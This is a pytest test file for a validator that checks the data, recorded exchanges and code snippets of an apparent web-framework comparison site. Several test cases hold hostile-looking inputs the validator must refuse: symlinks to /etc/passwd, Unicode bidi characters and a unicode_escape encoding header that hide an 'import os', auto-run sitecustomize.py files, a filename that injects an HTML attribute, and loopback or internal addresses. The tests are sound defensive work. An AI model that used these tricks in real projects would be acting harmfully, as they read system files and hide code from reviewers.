            "32:11: ROW.answers.right: needs exactly one of answer, fact or measure",
            "data/measurements.json:1:1: is missing; restore it, or run make bench",
        ],
    ),
    "neither answer nor fact": (
        "            answer: A table\n",
        "            note: Nothing said.\n",
        ["32:11: ROW.answers.right: needs exactly one of answer, fact or measure"],
    ),
    "unknown fact": (
        "answer: A table",
        "fact: licens",
        ['34:13: ROW.answers.right.fact: there is no fact licens; did you mean "licence"?'],
    ),
    "words of no framework": (
        "tasks: [hello]",
        "tasks: [hello]\n        terms: {rihgt: [route]}",
        ['27:17: ROW.terms.rihgt: there is no framework rihgt; did you mean "right"?'],
    ),
    "proof that did not run": (
        "answer: A table",
        "answer: A table\n            proof: [hello::test_greats]",
        [
            "35:21: ROW.answers.right.proof[0]: no test test_greats of hello is recorded for "
            'right; did you mean "test_greets"?'
        ],
    ),
    "proof of a task that the row lacks": (
        "tasks: [hello]\n        answers:\n          left:\n            level: built-in\n",
        "answers:\n          left:\n            level: built-in\n"
        "            proof: [hello::test_greets]\n",
        ["29:21: ROW.answers.left.proof[0]: add hello to the tasks of this row"],
    ),
    "proof that is no test": (
        "answer: A table",
        "answer: A table\n            proof: [hello/test_greets]",
        [
            "35:21: ROW.answers.right.proof[0]: must be a task and a test of its contract: "
            "path-parameters::test_text_is_invalid",
        ],
    ),
    "proof that is no text": (
        "answer: A table",
        "answer: A table\n            proof: [3.10, [hello]]",
        [
            '35:21: ROW.answers.right.proof[0]: must be text; quote it: "3.10"',
            "35:27: ROW.answers.right.proof[1]: must be text, not a list",
        ],
    ),
    "proof in no task": (
        "answer: A table",
        "answer: A table\n            proof: [helo::test_greets]",
        [
            "35:21: ROW.answers.right.proof[0]: no test test_greets of helo is recorded for "
            "right; known: none"
        ],
    ),
}


HOST = "must lead to a public host by its name in plain letters, such as docs.python.org"
ADDRESSES = {
    "https://127.0.0.1/#x": HOST,
    "https://2130706433/#x": HOST,
    "https://localhost/#x": HOST,
    "https://a.internal:80/#x": HOST,
    "https://xn--80ak6aa92e.com/#x": HOST,
    "https://a.example./#x": HOST,
    "https://-/#x": "must name a host behind https://, without user and password",
    "https://a.example:99999/#x": "has a port that does not exist; remove it",
    "https://a.example:0/#x": "has a port that does not exist; remove it",
    "https://a.example/#%": "has a character that no address has; percent-encode it",
    "https://a.example/o/r/blob/1.0/../main/x": (
        "must name its page without . and .. as steps of the way"
    ),
    "https://a.example/#:~:text=": f"must {urls.PROVES}",
    "https://a.example/#-": f"must {urls.PROVES}",
    "https://a.example/o/r/blob/develop/x": f"must {urls.PROVES}",
    "https://a.example/o/r/blob/Main/x": f"must {urls.PROVES}",
    "https://a.example/o/r/blob/refs/heads/main/x": f"must {urls.PROVES}",
    "https://a.example/o/r/blob/3.1.x/x": f"must {urls.PROVES}",
    "https://a.example/o/r/blob/m%61in/x": f"must {urls.PROVES}",
}


@pytest.mark.parametrize(("address", "said"), ADDRESSES.items())
def test_an_address_that_leads_nowhere_is_refused(example: Path, address: str, said: str) -> None:
    wrong = GOOD.replace("- https://right.example/#routes", f'- "{address}"')
    assert mistakes(example, wrong) == [f"36:17: ROW.answers.right.sources[0]: {said}"]
    assert not re.search(urls.DEEP_PATTERN, address)  # as an editor says, too


@pytest.mark.parametrize(("old", "new", "said"), WRONG.values(), ids=WRONG)
def test_mistake_is_named_with_place_and_remedy(
    example: Path, old: str, new: str, said: list[str]
) -> None:
    assert old in GOOD
    assert mistakes(example, GOOD.replace(old, new, 1)) == said


def test_all_mistakes_come_in_one_run(example: Path) -> None:
    (example / "snippets/hello/left/app.py").unlink()
    (example / "snippets/hullo").mkdir()
    words = example / "data/dictionary.yaml"
    words.write_text(words.read_text().replace("says:", "sais:", 1))
    wrong = (
        GOOD.replace('version: "1.0"', "version: 1.0")
        .replace("    title: Requests\n", "    title: Requests\n    title: Requests\n")
        .replace("level: built-in", "levle: built-in")
        .replace("https://right.example/#routes", "http://right.example/#routes")
    )
    assert mistakes(example, wrong) == [
        '6:24: frameworks.left.checked.version: must be text; quote it: "1.0"',
        "21:5: sections.requests.title: the same key is on line 20; remove one of them",
        '30:13: ROW.answers.left.levle: unknown key; did you mean "level"?',
        "37:17: ROW.answers.right.sources[0]: must begin with https://",
        "data/dictionary.yaml:10:9: entries.greeting.words.left.sais: unknown key;"
        ' did you mean "says"?',
    ]


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("docs/requests.md", "19:3: sections.requests: its page is generated; rename or"),
        ("docs/code/hello.md", "38:3: tasks.hello: its page is generated; rename or"),
        ("docs/requests/a.md", "19:3: sections.requests: there is a folder docs/requests; choose"),
    ],
)
def test_a_page_in_the_place_of_one_that_is_made_is_refused(
    example: Path, name: str, said: str
) -> None:
    (example / name).parent.mkdir(parents=True, exist_ok=True)
    (example / name).write_text("# Mine\n")
    assert [mistake[: len(said)] for mistake in mistakes(example, GOOD)] == [said]


def test_all_that_does_not_fit_comes_in_one_run(example: Path) -> None:
    (example / "snippets/hello/left/app.py").unlink()
    (example / "snippets/hullo").mkdir()
    words = example / "data/dictionary.yaml"
    words.write_text(words.read_text().replace("row: routing", "row: ruoting", 1))
    wrong = GOOD.replace("            level: built-in\n", "").replace(
        "tasks: [hello]", "tasks: [hallo]"
    )
    assert mistakes(example, wrong) == [
        '26:17: ROW.tasks[0]: there is no task hallo; did you mean "hello"?',
        "28:11: ROW.answers.left: has no level, but another answer has; give every answer a"
        " level, or none",
        '36:1: tasks: snippets/hullo/ is a folder that no task names; did you mean "hello"?',
        "37:3: tasks.hello: snippets/hello/left/app.py is missing; add the file",
        "data/dictionary.yaml:5:5: entries.greeting.row: there is no row ruoting;"
        ' did you mean "routing"?',
    ]


@pytest.mark.parametrize(
    ("content", "said"),
    {
        "nothing": (b"", ["1:1: the file is empty; restore its content"]),
        "only a comment": (b"# soon\n", ["1:1: the file is empty; restore its content"]),
        "Latin-1": (b"a: 1\nb: caf\xe9\n", ["2:7: is not UTF-8 here; save the file as UTF-8"]),
        "UTF-16": (GOOD.encode("utf-16"), ["1:1: is not UTF-8 here; save the file as UTF-8"]),
        "UTF-16 without a mark": (
            GOOD.encode("utf-16-le"),
            ["1:2: is not UTF-8 here; save the file as UTF-8"],
        ),
        "line ends of old Macs": (
            b"a: 1\rb: 2\r",
            [
                "1:5: character U+000D is not allowed; end each line with LF or CR LF",
                "1:10: character U+000D is not allowed; end each line with LF or CR LF",
            ],
        ),
        "a list": (
            b"- a\n",
            ["1:1: must be a mapping: lines of `key: value`, indented by two more spaces"],
        ),
        "cut off behind a key": (
            f"{GOOD}? a".encode(),
            [
                "41:3: a: unknown key; known: frameworks, sections, tasks",
                "42:1: a: is empty; write a value, or remove the key",
            ],
        ),
        "too many values": (
            b"a: [" + b"b," * 400_000 + b"]",
            ["1:799999: has more than 400000 keys and values; make it smaller"],
        ),
        "too large": (
            b"#" * (2**24 + 1),
            ["1:1: has 16777217 bytes; at most 16777216 are allowed"],
        ),
        "too deep": (b"a: " + b"[" * 40_000, ["1:23: is nested more than 20 levels deep"]),
    }.values(),
)
def test_unreadable_file_is_refused(example: Path, content: bytes, said: list[str]) -> None:
    assert mistakes(example, content) == said


@pytest.mark.parametrize(
    "content", ["\u202e" * 600, f"{{{', '.join(f'a{number}: b' for number in range(600))}}}"]
)
def test_of_very_many_mistakes_the_first_are_said(example: Path, content: str) -> None:
    said = mistakes(example, content)
    assert len(said) == 501
    assert "1:1: has more than 500 mistakes; fix these first" in said[:2]


def test_of_very_many_known_names_the_first_are_said() -> None:
    known = [f"a{number}" for number in range(30)]
    assert did_you_mean("b", known) == f"known: {', '.join(known[:20])}, …"


@pytest.mark.parametrize(
    ("kind", "file", "above", "said"),
    [
        ("row", "data/comparison.yaml", "    rows:\n", []),
        ("claim", "data/claims.yaml", "\nclaims:\n", []),
        (
            *("task", "data/comparison.yaml", "\ntasks:\n"),
            ["left/app.py is missing", "right/app.py is missing", "test_contract.py is missing"],
        ),
    ],
)
def test_the_smallest_block_is_accepted_as_it_is(
    example: Path, kind: str, file: str, above: str, said: list[str]
) -> None:
    content = (example / file).read_text()
    assert above in content
    block = blocks.KINDS[kind](load_matrix(example))
    (example / file).write_text(content.replace(above, f"{above}{block}", 1))
    try:
        check(example)
        found = []
    except Invalid as invalid:
        found = [str(mistake) for mistake in invalid.mistakes]
    assert len(found) == len(said)
    assert all(part in mistake for part, mistake in zip(said, found, strict=True))


@pytest.mark.parametrize("level", ["            level: built-in\n", ""])
def test_an_unknown_answer_needs_only_a_note(example: Path, level: str) -> None:
    known = GOOD[GOOD.index("          right:\n            level") : GOOD.index("tasks:\n  hello")]
    unknown = "          right: {level: unknown, note: Nobody has looked.}\n"
    text = GOOD.replace(known, unknown).replace("            level: built-in\n", level)
    (example / "data/comparison.yaml").write_text(text, "utf-8")
    row = load(example).matrix.sections["requests"].rows["routing"]
    assert (row.answers["right"].said, row.differs) == ("Not known", False)


def test_a_no_break_space_inside_a_text_is_accepted(example: Path) -> None:
    (example / "data/comparison.yaml").write_text(GOOD.replace("A table", "A\xa0table"), "utf-8")
    row = load(example).matrix.sections["requests"].rows["routing"]
    assert row.answers["right"].answer == "A\xa0table"


def test_joiners_and_pictures_are_accepted(example: Path) -> None:
    said = "A \U0001f468\u200d\U0001f4bb \u263a\ufe0f"
    (example / "data/comparison.yaml").write_text(GOOD.replace("A table", said), "utf-8")
    assert load(example).matrix.sections["requests"].rows["routing"].answers["right"].answer == said


def test_what_an_exchange_hides_is_refused(example: Path) -> None:
    exchanges = example / "snippets/hello/exchanges.json"
    exchanges.write_text(exchanges.read_text().replace("It greets", "It \\u2067greets", 1))
    assert mistakes(example, GOOD) == [
        "snippets/hello/exchanges.json:1:165: exchanges[0].shows.left: character U+2067 is not"
        " allowed, not as an escape either; restore the file, or run make record TASK=hello",
    ]


NOT_SHOWN = (
    "1:1: is not shown on the page, so no program may have it; allowed: .css, .html, .py, .svg"
)
PROGRAMS: dict[str, tuple[str, str | bytes, str]] = {
    "a sign that reorders": ("left/app.py", "# \u202e\na = 1\n", "1:3: character U+202E is not"),
    "a line end that Python does not see": (
        *("left/app.py", "app = 1  # \u2028import os\n"),
        "1:12: character U+2028 is not allowed; remove it",
    ),
    "not UTF-8": (
        *("left/static/site.css", b"\xe9"),
        "1:1: is not UTF-8 here; save the file as UTF-8",
    ),
    "no colon": ("left/app.py", "a = 1\ndef b()\n  pass\n", "2:8: SyntaxError: expected ':'"),
    "quotes that stay open": (
        *("left/app.py", 'a = """\n'),
        "1:5: SyntaxError: unterminated triple-quoted string literal (detected at line 1)",
    ),
    "an indentation that fits none": (
        *("left/app.py", "if 1:\n    a = 1\n  b = 1\n"),
        "3:8: IndentationError: unindent does not match any outer indentation level",
    ),
    "spaces and tabs": ("left/app.py", "if 1:\n\ta = 1\n        b = 1\n", "3:1: TabError: incon"),
    "quotes of a text processor": (
        *("left/app.py", "a = “1”\n"),
        "1:5: SyntaxError: invalid character '“' (U+201C)",
    ),
    "return outside of a function": (
        *("left/app.py", "return 1\n"),
        "1:1: SyntaxError: 'return' outside function",
    ),
    "no Python beside app.py": ("left/more.py", "a b\n", "1:3: SyntaxError: invalid syntax"),
    "no Python in a contract": ("test_contract.py", "a b\n", "1:3: SyntaxError: invalid syntax"),
    "nested without an end": ("left/app.py", "(" * 300, "1:201: SyntaxError: too many nested pare"),
    "nothing": ("left/app.py", "", "1:1: is empty; write the program"),
    "comments only": ("right/app.py", "# soon\n\n", "1:1: is empty; write the program"),
    "an encoding of escapes": (
        *("left/app.py", "# -*- coding: unicode_escape -*-\n# \\u000aimport os\na = 1\n"),
        "1:1: names the encoding unicode_escape; files are UTF-8, remove this line",
    ),
    "another encoding in the second line": (
        *("left/app.py", "# hello\n# vim: set fileencoding=utf-7 :\na = 1\n"),
        "2:1: names the encoding utf-7; files are UTF-8, remove this line",
    ),
    "an encoding that is none": (
        *("left/app.py", "# coding: klingon\na = 1\n"),
        "1:1: SyntaxError: unknown encoding: klingon",
    ),
    "an encoding of a contract": (
        *("test_contract.py", "# coding: latin-1\na = 1\n"),
        "1:1: names the encoding iso-8859-1; files are UTF-8, remove this line",
    ),
    "too many lines": (
        *("left/app.py", "a = 1\n" * 201),
        "201:1: has 201 lines, at most 200 are allowed; a program has about 30 lines",
    ),
    "a line without an end": (
        *("left/a.svg", "a" * 20_001),
        "1:1: has 20001 characters, at most 20000 are allowed; a program has about 30 lines",
    ),
    "a text that is read": ("left/schema.txt", "a", NOT_SHOWN),
    "compiled Python": ("left/more.pyc", b"a", NOT_SHOWN),
    "compiled C": ("left/app.so", b"a", NOT_SHOWN),
    "data": ("left/data.json", "{}", NOT_SHOWN),
    "a name without a suffix": ("left/Makefile", "a", NOT_SHOWN),
    "a name with a dot before it": ("left/.env", "A=1", NOT_SHOWN),
    "a file that tools do not list": ("left/.more.py", "a = 1", NOT_SHOWN),
    "a suffix in capitals": ("left/more.PY", "a = 1", NOT_SHOWN),
    "a package that wins over app.py": (
        *("left/app/more.py", "a = 1"),
        "1:1: is in a folder app, which would hide app.py; rename the folder",
    ),
    "a package": ("left/__init__.py", "", "1:1: would hide the framework of that name; remove it"),
    "a package around all": (
        *("../__init__.py", ""),
        "1:1: would hide the framework of that name; remove it",
    ),
    "the name of a framework": ("left/right.py", "a = 1", "1:1: would hide the module right;"),
    "a folder of that name": ("left/right/a.py", "a = 1", "1:1: would hide the module right;"),
    "the name of what a framework brings": (
        *("left/brought.py", "a = 1"),
        "1:1: would hide the module brought;",
    ),
    "what a server looks for": ("left/gunicorn.conf.py", "a = 1", "1:1: is read when a server"),
    "what runs without being asked for": (
        *("left/sitecustomize.py", "a = 1"),
        "1:1: is read when a server or a test starts; remove it, or rename it",
    ),
    "another case": ("left/Json.py", "a = 1", "1:1: would hide the module json;"),
    "the name of a standard module": ("left/json.py", "a = 1", "1:1: would hide the module json;"),
    "a module beside the contract": (
        *("more.py", "a = 1"),
        "1:1: is not allowed here; allowed: test_contract.py, exchanges.json",
    ),
    "a module beside the tasks": (
        *("../more.py", "a = 1"),
        "1:1: is not allowed here; allowed: conftest.py",
    ),
    "a name that says more": (
        *('left/x" title="y.css', ""),
        "1:1: may have letters, digits, dots, hyphens and underscores in its name; rename it",
    ),
}


@pytest.mark.parametrize(("file", "content", "said"), PROGRAMS.values(), ids=PROGRAMS)
def test_what_may_not_lie_among_the_programs_is_refused_at_its_place(
    example: Path, file: str, content: str | bytes, said: str
) -> None:
    path = example / "snippets/hello" / file
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    name = path.resolve().relative_to(example.resolve()).as_posix()
    (mistake,) = mistakes(example, GOOD)
    assert mistake.startswith(f"{name}:{said}")


def test_a_name_of_two_lines_is_said_on_one(example: Path) -> None:
    (example / "snippets/hello/left/x\n::y.css").write_text("")
    (example / "data/comparison.yaml").write_text(GOOD)
    with pytest.raises(Invalid) as refused:
        check(example)
    (mistake,) = refused.value.mistakes
    assert str(mistake).startswith("snippets/hello/left/x\\n::y.css:1:1: may have letters")
    assert annotation(mistake).startswith(
        "::error file=snippets/hello/left/x\\n%3A%3Ay.css,line=1,col=1::may have letters"
    )


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("snippets/hello/left/app.py", "/etc/passwd"),
        ("snippets/hello/left/extra.py", "/dev/zero"),
        ("snippets/hello/left/static", "/etc"),
        ("snippets/hello/left/itself.html", "itself.html"),
        ("snippets/hello/left/inside.css", "../right/app.py"),
        ("snippets/hello/test_contract.py", "/etc/passwd"),
        ("snippets/hello/exchanges.json", "/etc/passwd"),
        ("snippets/hello/right", "/etc"),
        ("snippets/hello", "/etc"),
        ("docs/assets/leak.txt", "/etc/passwd"),
        ("docs/leak.md", "/nowhere"),
        ("docs/code", "/etc"),
        ("data/claims.yaml", "/etc/passwd"),
        ("overrides", "/etc"),
    ],
)
@pytest.mark.parametrize("with_git", [True, False])
def test_a_link_is_refused(example: Path, link: str, target: str, with_git: bool) -> None:
    if with_git:
        subprocess.run(["git", "init", "-q", example], check=True)
    path = example / link
    if path.is_dir():
        shutil.rmtree(path)
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(target)
    assert f"{link}:1:1: is a symbolic link; replace it with the file itself" in mistakes(
        example, GOOD
    )


def test_compiled_files_are_refused_where_git_tracks_them(example: Path) -> None:
    file = example / "snippets/hello/left/__pycache__/app.cpython-311.pyc"
    file.parent.mkdir()
    file.write_bytes(b"a")
    load(example)
    (example / ".gitignore").write_text("__pycache__/\n")
    subprocess.run(["git", "init", "-q", example], check=True)
    mistakes(example, GOOD.replace("left:", "", 1))  # read again
    (example / "data/comparison.yaml").write_text(GOOD)
    load(example)
    subprocess.run(["git", "-C", example, "add", "-f", file], check=True)
    assert mistakes(example, f"{GOOD}\n") == [f"{file.relative_to(example)}:{NOT_SHOWN}"]


RECORDED = "snippets/hello/exchanges.json"
ANEW = "run make record TASK=hello"
AGAIN = f"restore the file, or {ANEW}"
HALF: dict[str, Any] = json.loads(json.dumps(EXCHANGE))
for part in ("tests", "shows", "responses"):
    del HALF[part]["right"]


@pytest.mark.parametrize(
    ("content", "said"),
    {
        "missing": (
            None,
            f"snippets/hello/test_contract.py:1:1: {RECORDED} is missing; run make record"
            " TASK=hello",
        ),
        "a conflict": (
            "{\n<<<<<<< HEAD\n}",
            f"{RECORDED}:2:1: is not JSON: expecting property name enclosed in double quotes;"
            f" {AGAIN}",
        ),
        "cut off": (
            '{"exchanges": [',
            f"{RECORDED}:1:16: is not JSON: expecting value; {AGAIN}",
        ),
        "empty": ("", f"{RECORDED}:1:1: is not JSON: expecting value; {AGAIN}"),
        "a list": ("[]", f"{RECORDED}:1:1: must be an object; {AGAIN}"),
        "no exchanges": ("{}", f"{RECORDED}:1:1: exchanges: missing; {AGAIN}"),
        "a number": (
            '{"exchanges": 3}',
            f"{RECORDED}:1:15: exchanges: must be a valid array; {AGAIN}",
        ),
        "nested": ("[" * 100_000, f"{RECORDED}:1:1: is nested more than 20 levels deep; {AGAIN}"),
        "none": ('{"exchanges": []}', f"{RECORDED}:1:1: has no test of left and right; {ANEW}"),
        "one of two": (
            json.dumps({"exchanges": [HALF]}),
            f"{RECORDED}:1:1: has no test of right; {ANEW}",
        ),
    }.values(),
)
def test_what_only_recording_mends_is_said_once(
    example: Path, content: str | None, said: str
) -> None:
    (example / RECORDED).unlink()
    if content is not None:
        (example / RECORDED).write_text(content)
    proof = "answer: A table\n            proof: [hello::test_greets, hello::test_greets_all]"
    some = mistakes(example, GOOD.replace("answer: A table", proof))
    assert [one for one in some if "no test test_" not in one] == [said]


def test_a_new_framework_is_known_before_rows_name_its_facts(example: Path) -> None:
    begun = GOOD.replace("  right:\n    name", "  third:\n    name", 1).replace(
        "right:\n    name", ""
    )
    (example / "data/comparison.yaml").write_text(begun.replace("answer: A table", "fact: version"))
    assert distributions(example) == {"left": "left", "third": "right"}


def test_missing_file_is_refused(example: Path) -> None:
    (example / "data/comparison.yaml").unlink()
    with pytest.raises(Invalid, match="cannot be read: No such file or directory"):
        load(example)


def test_byte_order_mark_and_windows_line_ends_are_accepted(example: Path) -> None:
    (example / "data/comparison.yaml").write_bytes(GOOD.replace("\n", "\r\n").encode("utf-8-sig"))
    assert list(load(example).matrix.sections) == ["requests"]


def test_command_line_prints_the_mistakes_of_every_file_and_fails(project: Path) -> None:
    data = project / "data/comparison.yaml"
    data.write_text(data.read_text().replace("distribution:", "distribution: 3.10 #", 1))
    claims = project / "data/claims.yaml"  # what names rows is said after the rows
    claims.write_text(claims.read_text().replace("    says:", "    sais:", 1))
    command = [sys.executable, "-m", "comparison", "check"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("data/comparison.yaml:")
    assert 'distribution: must be text; quote it: "3.10"' in done.stderr
    assert 'sais: unknown key; did you mean "says"?' in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("part", "value", "said"),
    [
        ("shows", {"left": "", "right": "x"}, ".shows.left: is blank; give the test a docstring"),
        ("responses", {}, ".responses: must name the same frameworks as tests"),
        ("tests", [], ".tests: must be an object"),
        ("request", None, ".request: must be an object"),
        ("colour", 1, ".colour: unknown key"),
    ],
)
def test_exchanges_that_nobody_recorded_are_refused(
    example: Path, part: str, value: object, said: str
) -> None:
    file = example / "snippets/hello/exchanges.json"
    file.write_text(json.dumps({"exchanges": [EXCHANGE | {part: value}]}))
    first, *_ = mistakes(example, GOOD)
    assert first.startswith("snippets/hello/exchanges.json:1:")
    assert f": exchanges[0]{said}" in first
    assert first.endswith("; restore the file, or run make record TASK=hello")


@pytest.mark.parametrize(
    ("content", "said"),
    {
        "[]": "1:1: must be an object",
        '{"exchanges": 3}': "1:15: exchanges: must be a valid array",
        '{"exchanges": [null]}': "1:16: exchanges[0]: must be an object",
        "[" * 100_000: "1:1: is nested more than 20 levels deep",
        '{"exchanges": [], "exchanges": []}': "1:32: exchanges: the same key is here twice",
    }.items(),
)
def test_a_broken_record_is_named(example: Path, content: str, said: str) -> None:
    (example / "snippets/hello/exchanges.json").write_text(content)
    assert mistakes(example, GOOD)[0].startswith(f"snippets/hello/exchanges.json:{said}")


def test_facts_that_are_missing_or_of_another_release_are_refused(example: Path) -> None:
    facts = example / "data/facts.json"
    facts.write_text('{"read": "2026-11-20", "frameworks": {"right": {"version": "4.0"}}}')
    assert mistakes(example, GOOD) == [
        "14:15: frameworks.right.checked.version: is not the release that is installed and tested;"
        ' write "4.0", or pin this one (make lock, then make record)'
    ]
    facts.unlink()
    assert mistakes(example, GOOD.replace("answer: A table", "fact: licence")) == [
        "data/facts.json:1:1: is missing; restore it, or run make record"
    ]
